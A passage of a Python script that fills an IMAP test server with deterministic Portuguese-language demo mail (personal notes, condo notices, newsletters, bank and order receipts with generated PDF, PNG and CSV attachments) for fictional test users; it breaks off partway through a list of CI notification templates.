#!/usr/bin/env python3
"""Seed the Carteiro test stack with realistic demo mail (python3 standard library only).

    python3 scripts/demo_mail.py [--host 127.0.0.1] [--port 143] [--force] [--anchor YYYY-MM-DD]

Fills alice@example.test (~300 messages in INBOX, plus Sent, Archive, Drafts, Junk, Trash,
Projetos, Projetos/Obra, Família and "Recibos & Faturas") and bob@example.test (~30 messages).
A user whose INBOX already holds messages is left alone unless --force is given, in which case
that user's messages and custom folders are deleted first.

Output is deterministic: the same --seed and --anchor give byte-identical messages (Message-IDs do
not even depend on the anchor).  Dates are spread over the ~18 months before the anchor date
(default: today), and every message is APPENDed with an internal date equal to its Date header.
"""

import argparse
import base64
import datetime as dt
import hashlib
import imaplib
import math
import random
import re
import struct
import sys
import time
import unicodedata
import zlib
from email import policy
from email.header import Header
from email.message import EmailMessage
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import format_datetime, formataddr

DEMO_PASSWORD = "demo"
ALICE = ("Alice Andrade", "alice@example.test")
BOB = ("Bob Barbosa", "bob@example.test")
CRLF_POLICY = policy.SMTP  # RFC 5322 + CRLF line endings, what IMAP APPEND wants

# --------------------------------------------------------------------------- IMAP helpers


def mutf7_encode(name: str) -> str:
    """Encode a mailbox name in IMAP modified UTF-7 (RFC 3501 section 5.1.3)."""
    out, pending = [], []

    def flush():
        if pending:
            raw = "".join(pending).encode("utf-16-be")
            out.append("&" + base64.b64encode(raw).decode("ascii").rstrip("=").replace("/", ",") + "-")
            pending.clear()

    for ch in name:
        if 0x20 <= ord(ch) <= 0x7E:
            flush()
            out.append("&-" if ch == "&" else ch)
        else:
            pending.append(ch)
    flush()
    return "".join(out)


def mutf7_decode(name: str) -> str:
    def repl(m):
        body = m.group(1)
        if body == "":
            return "&"
        b = body.replace(",", "/")
        b += "=" * (-len(b) % 4)
        return base64.b64decode(b).decode("utf-16-be")

    return re.sub(r"&([A-Za-z0-9+,]*)-", repl, name)


def quote(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def check(resp, what):
    typ, data = resp
    if typ != "OK":
        raise SystemExit("IMAP %s failed: %s %r" % (what, typ, data))
    return data


LIST_RE = re.compile(rb'\((?P<flags>[^)]*)\) (?:"(?P<sep>[^"]*)"|NIL) (?P<name>.+)$')


def list_mailboxes(imap):
    out = []
    for line in check(imap.list('""', "*"), "LIST"):
        if line is None:
            continue
        if isinstance(line, tuple):  # name sent as a literal
            head, name = line[0], line[1]
            flags = LIST_RE.match(head + b'""')
            out.append((flags.group("flags").decode() if flags else "", name.decode()))
            continue
        m = LIST_RE.match(line)
        if not m:
            continue
        name = m.group("name").decode()
        if name.startswith('"') and name.endswith('"'):
            name = name[1:-1].replace('\\"', '"').replace("\\\\", "\\")
        out.append((m.group("flags").decode(), name))
    return out


# --------------------------------------------------------------------------- binary generators


def make_png(width, height, seed, kind="photo"):
    """A small but valid RGB PNG: gradient 'photo' with a few discs, or a flat 'logo' banner."""
    r = random.Random(seed)
    c1 = [r.randrange(30, 230) for _ in range(3)]
    c2 = [r.randrange(30, 230) for _ in range(3)]
    discs = [(r.randrange(width), r.randrange(height), r.randrange(4, max(5, height // 3)),
              [r.randrange(256) for _ in range(3)]) for _ in range(4 if kind == "photo" else 1)]
    rows = bytearray()
    for y in range(height):
        t = y / max(1, height - 1)
        row = bytearray(bytes(int(c1[i] * (1 - t) + c2[i] * t) for i in range(3)) * width)
        for (cx, cy, rad, col) in reversed(discs):  # first disc ends up on top
            if abs(y - cy) <= rad:
                half = math.isqrt(rad * rad - (y - cy) ** 2)
                x0, x1 = max(0, cx - half), min(width - 1, cx + half)
                if x0 <= x1:
                    row[x0 * 3:(x1 + 1) * 3] = bytes(col) * (x1 - x0 + 1)
        rows.append(0)
        rows += row

    def chunk(tag, data):
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(rows), 9)) + chunk(b"IEND", b""))


def _pdf_str(s):
    b = s.encode("cp1252", "replace")
    return b"(" + b.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def make_pdf(title, lines, pad_lines=0):
    """A minimal, valid one-page PDF (Helvetica, WinAnsi) with the given text lines."""
    ops = [b"BT /F1 16 Tf 56 790 Td " + _pdf_str(title) + b" Tj ET"]
    y = 760
    for ln in lines:
        ops.append(b"BT /F1 10 Tf 56 %d Td " % y + _pdf_str(ln) + b" Tj ET")
        y -= 14
        if y < 60:
            break
    for i in range(pad_lines):  # invisible filler to make a "big" attachment
        ops.append(b"%% filler %06d lorem ipsum dolor sit amet consectetur adipiscing elit" % i)
    stream = b"\n".join(ops) + b"\n"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"endstream",
        b"<< /Title " + _pdf_str(title) + b" /Producer (Carteiro demo seeder) >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def slug(s):
    s = unicodedata.normalize("NFKD", s).encode("ascii", "ignore").decode()
    return re.sub(r"[^a-z0-9]+", "-", s.lower()).strip("-")


def latin(s):
    """Make text safe for ISO-8859-1 (typographic dashes and quotes do not exist there)."""
    return s.replace("\u2014", "-").replace("\u2013", "-").replace("\u201c", '"').replace("\u201d", '"')


# --------------------------------------------------------------------------- people & text

TZ = {
    "sp": dt.timezone(dt.timedelta(hours=-3)),
    "lx": dt.timezone(dt.timedelta(hours=0)),
    "lx_s": dt.timezone(dt.timedelta(hours=1)),
    "de": dt.timezone(dt.timedelta(hours=1)),
    "gr": dt.timezone(dt.timedelta(hours=2)),
    "jp": dt.timezone(dt.timedelta(hours=9)),
    "ny": dt.timezone(dt.timedelta(hours=-5)),
    "utc": dt.timezone.utc,
}

P = {
    "alice": ("Alice Andrade", "alice@example.test", "sp"),
    "bob": ("Bob Barbosa", "bob@example.test", "sp"),
    "joao": ("João Gonçalves", "joao.goncalves@exemplo.com.br", "sp"),
    "maria": ("Maria da Conceição Ribeiro", "maria.ribeiro@correio.example.pt", "lx"),
    "ines": ("Inês Araújo", "ines.araujo@example.pt", "lx_s"),
    "sergio": ("Sérgio Mendonça", "sergio@construtora-alicerce.example", "sp"),
    "analucia": ("Ana Lúcia Brandão", "analucia@example.com.br", "sp"),
    "luis": ("Luís Câmara", "luis.camara@universidade.example.pt", "lx"),
    "bia": ("Beatriz Simões", "bia.simoes@example.com.br", "sp"),
    "tomas": ("Tomás Antunes", "tomas@antunes-arquitetura.example", "lx"),
    "marcia": ("Márcia Nóbrega", "marcia.nobrega@example.com.br", "sp"),
    "mae": ("Conceição Andrade", "conceicao.andrade@example.com.br", "sp"),
    "tia": ("Tia Zélia", "zelia.andrade@example.com.br", "sp"),
    "caio": ("Caio Andrade", "caio.andrade@example.com.br", "sp"),
    "hanako": ("田中 花子", "hanako.tanaka@example.jp", "jp"),
    "giorgos": ("Γιώργος Παπαδόπουλος", "g.papadopoulos@example.gr", "gr"),
    "olivia": ("Olivia Smith", "olivia.smith@example.co.uk", "lx"),
    "hans": ("Hans Müller", "hans.mueller@example.de", "de"),
    "francois": ("François Lefèvre", "francois.lefevre@example.fr", "de"),
    "ivan": ("Иван Петров", "ivan.petrov@example.ru", "gr"),
    "noa": ("נועה כהן", "noa.cohen@example.co.il", "gr"),
}

FRIENDS = ["joao", "bia", "analucia", "marcia", "ines", "luis", "tomas", "maria", "caio", "olivia", "hans"]

SUBJECTS_PERSONAL = [
    "Almoço na quinta?", "Fotos do passeio em Paraty", "Indicação de dentista", "Você viu isso?",
    "Receita do bolo de fubá", "Carona para o show", "Livro que te falei", "Parabéns pela promoção!",
    "Mudança de endereço", "Lembrete: devolver a furadeira", "Série nova na TV", "Planos para o feriado",
    "Sobre a reunião de pais", "Obrigada pela ajuda!", "Convite: exposição no MASP", "Dúvida rápida",
    "Trilha no sábado — quem topa?", "Cachorro perdido na rua de cima", "Vaga de estacionamento",
    "Aula de violão", "Restaurante português na Vila Madalena", "Notícias de Coimbra", "Saudações de Lisboa",
    "Ingressos para o teatro", "Férias em julho", "Conserto do notebook", "Feira de artesanato",
    "Pão de queijo congelado 😋", "Café amanhã às 9h?", "Reunião do clube de corrida", "Açaí ou sorvete?",
    "Confirmação de presença", "Mensagem da coordenação", "A caminho!", "Re: aquele assunto",
    "Orçamento do seguro do carro", "Dica de podcast", "Tradução da carta", "Bolo de aniversário",
    "Combinado então", "Preciso de um favor", "Emprestei o guarda-chuva", "Vacina do gato",
]

GREETINGS = ["Oi Alice,", "Olá Alice!", "Alice,", "Querida Alice,", "Bom dia, Alice!", "Boa tarde!",
             "Oi, tudo bem?", "E aí, Alice?", "Olá,"]
SIGNOFFS = ["Beijos", "Abraços", "Um abraço", "Até mais", "Obrigado!", "Bjs", "Cumprimentos",
            "Até já", "Abs", "Valeu!"]

PARAGRAPHS = [
    "Passei na padaria hoje de manhã e lembrei de você: voltaram a fazer aquele pão de fermentação natural "
    "que a gente gostava. Se quiser, guardo um pra você no sábado.",
    "Consegui finalmente organizar as fotos da viagem. Ficaram lindas, principalmente as do pôr do sol na praia. "
    "Vou separar as melhores e te mando ainda esta semana.",
    "A reunião foi remarcada para quinta-feira às 14h30, na sala de sempre. A pauta continua a mesma, mas o "
    "pessoal do financeiro pediu para incluir a previsão de gastos do segundo semestre.",
    "Você sabe se a biblioteca abre no domingo? Preciso devolver dois livros e não quero pagar multa de novo.",
    "Não esquece que o aniversário da Bia é dia 12. Estamos pensando em fazer uma vaquinha para dar um "
    "vale-presente da livraria — topa participar?",
    "Ontem choveu tanto que a rua ficou alagada. Demorei quase duas horas para chegar em casa, mas pelo menos "
    "deu tempo de ouvir o podcast inteiro sobre a história do café no Brasil.",
    "Segue o endereço do restaurante: Rua dos Pinheiros, 1234. Fica pertinho do metrô Fradique Coutinho. "
    "Reservei para as 20h, mesa para quatro pessoas.",
    "Tudo certo por aqui. O trabalho anda corrido, mas consegui tirar uns dias de folga no fim do mês. "
    "Estou pensando em ir para a serra, respirar um pouco de ar puro.",
    "Obrigada pela indicação do eletricista! Ele veio ontem, resolveu tudo em meia hora e ainda cobrou "
    "um preço justo. Já passei o contato para a vizinha também.",
    "Acho que a melhor opção é dividir as tarefas: eu cuido das bebidas e da música, você fica com os "
    "salgados e o João traz a sobremesa. O que acha?",
    "Li o artigo que você mandou e fiquei com uma dúvida: os dados são de 2023 ou já incluem este ano? "
    "Se forem antigos, talvez valha procurar uma fonte mais atual antes de citar na apresentação.",
    "A previsão diz que vai fazer sol o fim de semana inteiro. Que tal um piquenique no Ibirapuera? "
    "Levo a toalha xadrez e uma garrafa de suco de maracujá.",
    "Estou devendo aquela receita há séculos, desculpa! Três ovos, duas xícaras de fubá, uma de açúcar, "
    "uma de leite, meia de óleo e uma colher de fermento. Forno médio por uns 40 minutos.",
    "O conserto do carro ficou mais caro do que eu esperava — trocaram a embreagem e as pastilhas de freio. "
    "Pelo menos agora ele está andando que é uma beleza.",
    "Fiquei sabendo que a exposição de fotografia foi prorrogada até o fim do mês. Vamos juntas? "
    "Podemos ir numa terça, que é gratuita.",
    "Lembra daquele café em Coimbra, perto da universidade? Fecharam para reforma, mas dizem que reabre "
    "em setembro com o mesmo pastel de nata de sempre.",
    "Mandei o documento assinado pelo correio ontem. O código de rastreio é BR123456789PT, deve chegar até "
    "sexta-feira. Qualquer problema me avisa.",
    "Só para confirmar: o pagamento da inscrição vence amanhã, dia 15. Depois disso o valor sobe 20%.",
]

BOOKS = [("O Cortiço", "Aluísio Azevedo"), ("Memórias Póstumas de Brás Cubas", "Machado de Assis"),
         ("Ensaio sobre a Cegueira", "José Saramago"), ("A Hora da Estrela", "Clarice Lispector"),
         ("Grande Sertão: Veredas", "João Guimarães Rosa"), ("Os Maias", "Eça de Queirós"),
         ("Capitães da Areia", "Jorge Amado"), ("Vidas Secas", "Graciliano Ramos"),
         ("Torto Arado", "Itamar Vieira Junior"), ("O Livro do Desassossego", "Fernando Pessoa"),
         ("Quarto de Despejo", "Carolina Maria de Jesus"), ("Dom Casmurro", "Machado de Assis")]

MONTHS_PT = ["janeiro", "fevereiro", "março", "abril", "maio", "junho", "julho", "agosto", "setembro",
             "outubro", "novembro", "dezembro"]


# --------------------------------------------------------------------------- message model


class Msg:
    __slots__ = ("raw", "date", "flags", "box")

    def __init__(self, raw, date, box, flags=()):
        self.raw, self.date, self.box, self.flags = raw, date, box, set(flags)


class Gen:
    def __init__(self, seed, anchor):
        self.rng = random.Random(seed)
        self.seed = seed
        self.anchor = anchor  # aware datetime (UTC)
        self.counter = 0
        self.alice = []  # list[Msg]
        self.bob = []

    # ---- basic helpers
    def msgid(self, domain):
        self.counter += 1
        h = hashlib.sha1(("%s:%d" % (self.seed, self.counter)).encode()).hexdigest()
        return "<%s.%s@%s>" % (h[:12], h[12:20], domain)

    def when(self, max_days=540, min_days=0, skew=1.0, tz="sp"):
        r = self.rng.random() ** skew
        days = min_days + r * (max_days - min_days)
        t = self.anchor - dt.timedelta(days=days)
        # business-ish hours in the sender's zone
        local = t.astimezone(TZ[tz])
        local = local.replace(hour=self.rng.choice([7, 8, 9, 10, 11, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23]),
                              minute=self.rng.randrange(60), second=self.rng.randrange(60), microsecond=0)
        latest = self.anchor.astimezone(TZ[tz]).replace(microsecond=0) - dt.timedelta(minutes=5)
        if local > latest:  # picked hour lies after the anchor: some minutes/hours before it instead
            local = latest - dt.timedelta(seconds=self.rng.randrange(60, 8 * 3600))
        return local

    @staticmethod
    def addr(key):
        name, email, _ = P[key]
        return formataddr((name, email))

    def headers(self, m, sender, to, subject, date, mid=None, cc=None, extra=None):
        m["From"] = sender
        if to:
            m["To"] = to if isinstance(to, str) else ", ".join(to)
        if cc:
            m["Cc"] = cc if isinstance(cc, str) else ", ".join(cc)
        if subject is not None:
            m["Subject"] = subject
        m["Date"] = format_datetime(date)
        m["Message-ID"] = mid or self.msgid(sender.rsplit("@", 1)[-1].rstrip(">"))
        for k, v in (extra or {}).items():
            m[k] = v
        if "MIME-Version" not in m:
            m["MIME-Version"] = "1.0"
        return m

    def text(self, body, cte=None):
        m = EmailMessage(policy=CRLF_POLICY)
        if cte:
            m.set_content(body, cte=cte)
        else:
            m.set_content(body)
        return m

    def body_personal(self, n=None):
        n = n or self.rng.choice([1, 1, 2, 2, 3])
        paras = self.rng.sample(PARAGRAPHS, n)
        return "%s\n\n%s\n\n%s,\n" % (self.rng.choice(GREETINGS), "\n\n".join(paras), self.rng.choice(SIGNOFFS))

    def unread_flags(self, date, p_unread=0.33, p_flag=0.07):
        flags = set()
        age_days = (self.anchor - date).total_seconds() / 86400
        # recent mail is more likely to still be unread
        pu = p_unread * (2.2 if age_days < 20 else 1.0 if age_days < 120 else 0.6)
        if self.rng.random() >= pu:
            flags.add("\\Seen")
        if self.rng.random() < p_flag:
            flags.add("\\Flagged")
        return flags

    def add(self, owner, m, date, box, flags=()):
        # the email package draws MIME boundaries from the global RNG: fix them for reproducibility
        k = 0
        for part in m.walk():
            if part.get_content_maintype() == "multipart" and part.get_boundary() is None:
                k += 1
                part.set_boundary("=_carteiro_%s_%d" % (hashlib.sha1(str(m["Message-ID"]).encode()).hexdigest()[:16], k))
        raw = m.as_bytes(policy=CRLF_POLICY) if isinstance(m, EmailMessage) else m.as_bytes()
        raw = re.sub(rb"\r?\n", b"\r\n", raw)
        (self.alice if owner == "alice" else self.bob).append(Msg(raw, date, box, flags))

    # ---- categories ------------------------------------------------------------------------

    def personal(self, count, box="INBOX", min_days=0, max_days=540, skew=1.5, owner="alice"):
        for _ in range(count):
            key = self.rng.choice(FRIENDS)
            date = self.when(max_days, min_days, skew, tz=P[key][2])
            cte = self.rng.choice([None, None, None, "quoted-printable", "8bit", "base64"])
            m = self.text(self.body_personal(), cte)
            to = [formataddr(ALICE[:2]) if owner == "alice" else formataddr(BOB[:2])]
            cc = None
            if self.rng.random() < 0.15:
                cc = [self.addr(self.rng.choice(FRIENDS))]
            self.headers(m, self.addr(key), to, self.rng.choice(SUBJECTS_PERSONAL), date, cc=cc)
            flags = self.unread_flags(date) if box == "INBOX" else {"\\Seen"}
            if box == "INBOX" and "\\Seen" in flags and self.rng.random() < 0.05:
                flags.add("$Forwarded")
            self.add(owner, m, date, box, flags)

    def latin1(self, count, box="INBOX", min_days=0, max_days=540):
        """Old-fashioned ISO-8859-1 / windows-1252 mail (condomínio, a relative's old client)."""
        notices = [
            ("Comunicado: manutenção do elevador", "Prezados condôminos,\n\nInformamos que no próximo dia {d} "
             "o elevador social passará por manutenção preventiva, das 8h às 12h.\nPedimos a compreensão de "
             "todos e que utilizem o elevador de serviço neste período.\n\nAtenciosamente,\nA Administração\n"),
            ("Boleto da taxa condominial — {m}", "Prezado(a) condômino(a),\n\nSegue a linha digitável do boleto "
             "referente ao mês de {m}:\n\n    23790.12345 60000.123456 78000.123456 1 9{n}\n\nVencimento: dia 10. "
             "Após o vencimento, multa de 2% e juros de 1% ao mês.\n\nAdministração do Condomínio\n"),
            ("Assembleia geral ordinária", "Senhores condôminos,\n\nFica convocada a assembléia geral ordinária "
             "para o dia {d}, às 19h30 em primeira convocação e às 20h em segunda convocação, no salão de festas."
             "\n\nOrdem do dia:\n  1. Prestação de contas;\n  2. Previsão orçamentária;\n  3. Eleição do síndico;"
             "\n  4. Assuntos gerais (obra da fachada, piscina).\n\nA Administração\n"),
            ("Aviso: dedetização das áreas comuns", "Prezados,\n\nNo sábado, dia {d}, será feita a dedetização "
             "das garagens e do salão de festas. Mantenham animais de estimação dentro dos apartamentos.\n\n"
             "Grato,\nSíndico\n"),
        ]
        sender = formataddr(("Condomínio Jardim das Acácias", "sindico@jardimdasacacias.example"), "iso-8859-1")
        for i in range(count):
            date = self.when(max_days, min_days, 1.2)
            subj, body = self.rng.choice(notices)
            fill = dict(d="%02d/%02d" % (self.rng.randrange(1, 28), date.month), m=MONTHS_PT[date.month - 1],
                        n=self.rng.randrange(10000, 99999))
            subj, body = subj.format(**fill), body.format(**fill)
            charset = "iso-8859-1" if i % 4 else "windows-1252"
            if charset == "windows-1252":
                body = body.replace("Prezados", "“Prezados”").replace("Atenciosamente", "Atenciosamente —")
            else:
                subj, body = latin(subj), latin(body)
            m = MIMEText(body, "plain", charset)
            m["From"] = sender
            m["To"] = formataddr(ALICE[:2])
            m["Subject"] = Header(subj, charset)
            m["Date"] = format_datetime(date)
            m["Message-ID"] = self.msgid("jardimdasacacias.example")
            m["X-Mailer"] = "Microsoft Outlook Express 6.00.2900.5931"
            self.add("alice", m, date, box, self.unread_flags(date) if box == "INBOX" else {"\\Seen"})

    def newsletter(self, count, box="INBOX", min_days=0, max_days=540, owner="alice"):
        kinds = ["livraria", "feira", "ciencia", "viagem"]
        for i in range(count):
            kind = kinds[i % len(kinds)]
            date = self.when(max_days, min_days, 1.3, tz="utc")
            issue = 100 + i
            if kind == "livraria":
                sender = ("Livraria Tinta Fresca", "novidades@tintafresca.example")
                picks = self.rng.sample(BOOKS, 3)
                subject = "📚 Novidades da semana: %s e mais" % picks[0][0]
                items = [(t, a, "R$ %d,90" % self.rng.randrange(29, 119),
                          "https://img.tintafresca.example/capas/%s.jpg" % hashlib.md5(t.encode()).hexdigest()[:10])
                         for t, a in picks]
            elif kind == "feira":
                sender = ("Feira Orgânica do Bairro", "contato@feiraorganica.example")
                frutas = self.rng.sample(["caqui", "jabuticaba", "maracujá", "pitanga", "caju", "acerola",
                                          "mamão", "goiaba", "cupuaçu", "mexerica"], 3)
                subject = "Chegou a época de %s! Cesta da semana nº %d" % (frutas[0], issue)
                items = [(f.capitalize(), "Produtor: Sítio Boa Esperança", "R$ %d,00/kg" % self.rng.randrange(6, 25),
                          "https://cdn.feiraorganica.example/produtos/%s.jpg" % slug(f))
                         for f in frutas]
            elif kind == "ciencia":
                sender = ("Boletim Ciência & Café", "boletim@cienciaecafe.example")
                temas = self.rng.sample(["buracos negros", "microbioma intestinal", "energia solar", "baleias-jubarte",
                                         "computação quântica", "mudanças climáticas", "vacinas de mRNA",
                                         "a origem do café"], 3)
                subject = "Ciência & Café #%d — %s" % (issue, temas[0])
                items = [(t.capitalize(), "Leitura de %d min" % self.rng.randrange(3, 12), "",
                          "https://static.cienciaecafe.example/img/%d-%d.png" % (issue, k))
                         for k, t in enumerate(temas)]
            else:
                sender = ("Voa-Bem Linhas Aéreas", "ofertas@voabem.example")
                dest = self.rng.sample(["Lisboa", "Salvador", "Recife", "Porto", "Florianópolis", "Tóquio",
                                        "Atenas", "Buenos Aires"], 3)
                subject = "✈️ Ofertas relâmpago: %s a partir de R$ %d" % (dest[0], self.rng.randrange(199, 2999))
                items = [(d, "Ida e volta, taxas inclusas", "R$ %d" % self.rng.randrange(299, 4999),
                          "https://media.voabem.example/destinos/%s.jpg" % slug(d))
                         for d in dest]
            domain = sender[1].split("@")[1]
            logo_cid = "logo.%d@%s" % (issue, domain)
            text = "%s\n%s\n\n" % (subject, "=" * 40) + "\n".join(
                "* %s — %s %s\n  %s" % (t, a, p, img) for t, a, p, img in items) + (
                "\n\nPara deixar de receber, acesse https://%s/descadastrar?u=alice\n" % domain)
            cards = "".join(
                '<tr><td style="padding:8px"><img src="%s" width="120" height="160" alt="%s"></td>'
                '<td style="padding:8px;font-family:Georgia,serif"><h3 style="margin:0;color:#333">%s</h3>'
                '<p style="margin:4px 0;color:#666">%s</p><p style="margin:4px 0"><b>%s</b></p>'
                '<a href="https://%s/item?id=%d&amp;utm_source=newsletter" '
                'style="background:#2a7;color:#fff;padding:6px 12px;text-decoration:none;border-radius:4px">'
                'Ver mais</a></td></tr>' % (img, t, t, a, p, domain, k)
                for k, (t, a, p, img) in enumerate(items))
            html = (
                '<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>%s</title>'
                '<style>body{margin:0;background:#f4f1ea url(https://%s/bg/paper.png) repeat}'
                '.wrap{max-width:600px;margin:0 auto;background:#fff}'
                '.rodape{font-size:11px;color:#999}</style></head>'
                '<body><div class="wrap"><table width="100%%" cellspacing="0" cellpadding="0">'
                '<tr><td style="padding:16px;background-image:url(\'https://%s/img/header.jpg\')">'
                '<img src="cid:%s" alt="%s" width="120" height="40"></td></tr>'
                '<tr><td><h2 style="font-family:Arial,sans-serif;padding:0 16px">%s</h2></td></tr>'
                '<tr><td><table>%s</table></td></tr>'
                '<tr><td class="rodape" style="padding:16px">Você recebeu este e-mail porque se inscreveu em %s. '
                '<a href="https://%s/descadastrar?u=alice">Descadastrar</a></td></tr></table></div>'
                '<img src="https://track.%s/open.gif?c=%d&amp;u=alice" width="1" height="1" alt="">'
                '</body></html>' % (subject, domain, domain, logo_cid, sender[0], subject, cards, sender[0],
                                     domain, domain, issue))
            m = EmailMessage(policy=CRLF_POLICY)
            m.set_content(text)
            m.add_alternative(html, subtype="html")
            html_part = m.get_payload()[1]
            html_part.add_related(make_png(120, 40, issue, "logo"), "image", "png", cid="<%s>" % logo_cid,
                                  filename="logo.png", disposition="inline")
            rcpt = formataddr(ALICE[:2]) if owner == "alice" else formataddr(BOB[:2])
            self.headers(m, formataddr(sender), rcpt, subject, date, extra={
                "List-Unsubscribe": "<https://%s/descadastrar?u=alice>, <mailto:sair@%s>" % (domain, domain),
                "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
                "List-Id": "%s <news.%s>" % (sender[0], domain),
                "Precedence": "bulk",
            })
            flags = self.unread_flags(date, p_unread=0.5, p_flag=0.02) if box == "INBOX" else {"\\Seen"}
            self.add(owner, m, date, box, flags)

    def transactional(self, count, box="INBOX", min_days=0, max_days=540):
        for i in range(count):
            kind = i % 5
            date = self.when(max_days, min_days, 1.2)
            if kind == 0:  # bank statement with PDF
                mes = MONTHS_PT[(date.month - 2) % 12]
                m = self.text("Olá, Alice.\n\nSeu extrato de %s já está disponível e segue em anexo (PDF).\n"
                              "Saldo final: R$ %d,%02d.\n\nEste é um e-mail automático, não responda.\n\n"
                              "Banco Exemplo S.A.\n" % (mes, self.rng.randrange(1000, 20000), self.rng.randrange(100)))
                lines = ["Cliente: Alice Andrade   Agência 0001   Conta 12345-6", "Período: %s/%d" % (mes, date.year), ""]
                saldo = self.rng.randrange(2000, 9000)
                for d in range(1, 20, 2):
                    v = self.rng.randrange(-900, 1500)
                    saldo += v
                    lines.append("%02d  %-38s %10s %10s" % (d, self.rng.choice(
                        ["PIX recebido", "Supermercado Pão Doce", "Farmácia São João", "Conta de luz", "Padaria",
                         "Transferência", "Cinema", "Posto Ipiranga", "Livraria Tinta Fresca"]),
                        "%.2f" % v, "%.2f" % saldo))
                m.add_attachment(make_pdf("Extrato de conta corrente — %s" % mes, lines), "application", "pdf",
                                 filename="extrato_%d-%02d.pdf" % (date.year, date.month))
                subject = "Seu extrato de %s está disponível" % mes
                sender = ("Banco Exemplo", "nao-responda@bancoexemplo.example")
            elif kind == 1:  # store order with CSV
                pedido = self.rng.randrange(100000, 999999)
                rows = [("Produto", "Quantidade", "Preço unitário", "Total")]
                total = 0
                for item in self.rng.sample(["Café torrado 500g", "Filtro de papel nº 103", "Caneca de cerâmica",
                                             "Açúcar mascavo 1kg", "Chá de hortelã", "Pão de mel (cx. 6)",
                                             "Geleia de jabuticaba", "Queijo Canastra"], 4):
                    q, pu = self.rng.randrange(1, 4), self.rng.randrange(5, 80)
                    total += q * pu
                    rows.append((item, str(q), "%d,00" % pu, "%d,00" % (q * pu)))
                csv = "\r\n".join(";".join(r) for r in rows) + "\r\n"
                m = self.text("Olá Alice,\n\nRecebemos o seu pedido nº %d. Total: R$ %d,00.\n"
                              "A lista de itens segue em anexo (CSV).\n\nObrigado por comprar na Loja Bom Preço!\n"
                              % (pedido, total))
                m.add_attachment(("\ufeff" + csv).encode("utf-8"), "text", "csv",
                                 filename="pedido_%d.csv" % pedido)
                subject = "Pedido nº %d confirmado ✔" % pedido
                sender = ("Loja Bom Preço", "pedidos@bompreco.example")
            elif kind == 2:  # airline booking HTML only
                loc = "".join(self.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(6))
                dest = self.rng.choice(["Lisboa (LIS)", "Salvador (SSA)", "Porto (OPO)", "Recife (REC)"])
                m = EmailMessage(policy=CRLF_POLICY)
                m.set_content("<html><body><h1>Reserva confirmada</h1><p>Localizador: <b>%s</b></p>"
                              "<table border=1><tr><th>Trecho</th><th>Data</th></tr>"
                              "<tr><td>São Paulo (GRU) → %s</td><td>%s</td></tr></table>"
                              "<p><img src=\"https://media.voabem.example/qr/%s.png\" alt=\"QR\"></p>"
                              "<p style='color:gray'>Voa-Bem Linhas Aéreas</p></body></html>"
                              % (loc, dest, (date + dt.timedelta(days=30)).strftime("%d/%m/%Y"), loc),
                              subtype="html")
                subject = "Reserva %s confirmada — São Paulo → %s" % (loc, dest)
                sender = ("Voa-Bem Linhas Aéreas", "reservas@voabem.example")
            elif kind == 3:  # utility bill
                m = self.text("Prezada cliente,\n\nSua fatura de energia elétrica de %s/%d no valor de R$ %d,%02d "
                              "vence em 10/%02d.\n\nConsumo: %d kWh\nCódigo de barras: 83640000001-2 %d-5 "
                              "00000000000-1\n\nCompanhia Elétrica Exemplo\n"
                              % (MONTHS_PT[date.month - 1], date.year, self.rng.randrange(90, 400), self.rng.randrange(100),
                                 date.month, self.rng.randrange(120, 400), self.rng.randrange(1000, 9999)),
                              "quoted-printable")
                subject = "Sua conta de luz de %s chegou" % MONTHS_PT[date.month - 1]
                sender = ("Companhia Elétrica Exemplo", "fatura@eletrica.example")
            else:  # password reset / security notice
                code = self.rng.randrange(100000, 999999)
                m = self.text("Olá,\n\nSeu código de verificação é: %d\n\nEle expira em 10 minutos. Se você não "
                              "solicitou este código, ignore este e-mail.\n" % code)
                m.add_alternative("<p>Olá,</p><p>Seu código de verificação é:</p><p style=\"font-size:28px;"
                                  "letter-spacing:6px\"><b>%d</b></p><p>Ele expira em 10 minutos.</p>" % code,
                                  subtype="html")
                subject = "Código de verificação: %d" % code
                sender = ("Prefeitura Digital", "seguranca@prefeitura.example")
            self.headers(m, formataddr(sender), formataddr(ALICE[:2]), subject, date)
            flags = self.unread_flags(date, 0.3, 0.05) if box in ("INBOX", "Recibos & Faturas") else {"\\Seen"}
            self.add("alice", m, date, box, flags)

    def notifications(self, count, box="INBOX", owner="alice"):
        repo = "carteiro/carteiro"
        events = [
            ("[{repo}] CI falhou em main (#{n})", "O pipeline #{n} falhou no job `test (stable)`.\n\n"
             "  error[E0599]: no method named `fetch_uids` found for struct `Session`\n"
             "    --> src/imap/actor.rs:{line}:18\n\nVer execução: https://gitforge.example/{repo}/actions/runs/{run}\n"),
            ("[{repo}] Nova issue: Anexos com nome em UTF-8 aparecem quebrados (#{n})",
